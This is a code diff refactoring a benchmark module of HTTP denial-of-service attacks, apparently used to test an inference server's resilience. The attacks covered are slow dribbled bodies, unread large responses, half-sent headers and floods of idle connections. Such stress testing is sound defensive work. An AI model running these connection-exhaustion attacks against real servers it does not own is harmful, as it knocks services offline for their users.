@@ -6,10 +6,9 @@ import contextlib
 import gzip
 import json
 import socket
-import time
 from collections.abc import Callable
 
-from bench.attackers.target import Target, burst, drain, pile_up
+from bench.attackers.target import Target, burst, drain, hold, pile_up
 
 _MIB = 1 << 20
 #: Of an answer.
@@ -20,51 +19,33 @@ _BURST_ANSWER = 4_000_000
 
 def unread_answers(target: Target) -> None:
     """Asks on four connections for one answer of 16 MiB after the other and reads none; replaces a connection that is closed."""
-    with contextlib.ExitStack() as stack:
-        request = _large_answer(stack.enter_context(target.region(_LARGE)), _LARGE)
-        connections: list[socket.socket] = []
-        while target.going_on():
-            with target.refusals():
-                while len(connections) < 4:
-                    connections.append(target.http_socket())
-            for connection in list(connections):
-                connection.setblocking(False)
-                try:
-                    target.count("bytes of requests", connection.send(request))
-                except BlockingIOError:
-                    pass
-                except OSError:
-                    target.count("connections lost")
-                    connections.remove(connection)
-                    connection.close()
-            time.sleep(0.01)
-        for connection in connections:
-            connection.close()
+    with target.region(_LARGE) as region:
+        request = _large_answer(region, _LARGE)
+
+        def ask(connection: socket.socket) -> None:
+            connection.setblocking(False)
+            with contextlib.suppress(BlockingIOError):
+                target.count("bytes of requests", connection.send(request))
+
+        hold(target, 4, target.http_socket, ask)
 
 
 def dribbled_bodies(target: Target) -> None:
     """Announces bodies of 60 MiB on thirty-two connections, and sends one byte of each body now and then."""
     head = b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: 100\r\n"
-    head += b"Content-Length: %d\r\n\r\n" % (60 * _MIB)
-    connections: list[socket.socket] = []
-    while target.going_on():
-        with target.refusals():
-            while len(connections) < 32:
-                connection = target.http_socket()
-                connections.append(connection)
-                connection.sendall(head + b"{")
-                target.count("bodies")
-        for connection in list(connections):
-            try:
-                connection.sendall(b" ")
-                drain(connection)
-            except OSError:
-                target.count("connections lost")
-                connections.remove(connection)
-                connection.close()
-        time.sleep(0.1)
-    for connection in connections:
-        connection.close()
+    head += b"Content-Length: %d\r\n\r\n{" % (60 * _MIB)
+
+    def begin() -> socket.socket:
+        connection = target.http_socket()
+        connection.sendall(head)
+        target.count("bodies")
+        return connection
+
+    def dribble(connection: socket.socket) -> None:
+        connection.sendall(b" ")
+        drain(connection)
+
+    hold(target, 32, begin, dribble, pause=0.1)
 
 
 def half_heads(target: Target) -> None:
@@ -76,11 +57,6 @@ def half_heads(target: Target) -> None:
         return connection
 
     pile_up(target, half_open, 1000)
-
-
-def idle_connections(target: Target) -> None:
-    """Opens more connections than the front accepts, and sends no request on them."""
-    pile_up(target, target.http_socket, 5000)
 
 
 def many_inputs(target: Target) -> None:
@@ -195,26 +171,17 @@ def waiting_bodies(target: Target) -> None:
     request = b"POST /v2/models/slow/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: %d\r\n" % len(head)
     request += b"Content-Length: %d\r\n\r\n" % (len(head) + len(values)) + head + values
     left: dict[socket.socket, int] = {}
-    while target.going_on():
-        with target.refusals():
-            while len(left) < 64:
-                left[target.http_socket()] = len(request)
-        for connection, size in list(left.items()):
-            try:
-                drain(connection)
-                connection.setblocking(False)
-                with contextlib.suppress(BlockingIOError):
-                    left[connection] = size - connection.send(request[len(request) - size :])
-                if not left[connection]:
-                    left[connection] = len(request)
-                    target.count("bodies")
-            except OSError:
-                target.count("connections lost")
-                del left[connection]
-                connection.close()
-        time.sleep(0.01)
-    for connection in left:
-        connection.close()
+
+    def send(connection: socket.socket) -> None:
+        size = left.get(connection) or len(request)
+        drain(connection)
+        connection.setblocking(False)
+        with contextlib.suppress(BlockingIOError):
+            left[connection] = size - connection.send(request[len(request) - size :])
+            if not left[connection]:
+                target.count("bodies")
+
+    hold(target, 64, target.http_socket, send)
 
 
 def _large_answer(region: str, byte_size: int) -> bytes:
@@ -246,7 +213,8 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "http-unread-answers": unread_answers,
     "http-dribbled-bodies": dribbled_bodies,
     "http-half-heads": half_heads,
-    "http-idle-connections": idle_connections,
+    #: More connections than the front accepts, without a request.
+    "http-idle-connections": lambda target: pile_up(target, target.http_socket, 5000),
     "http-many-inputs": many_inputs,
     "http-long-strings": long_strings,
     "http-many-strings": many_strings,
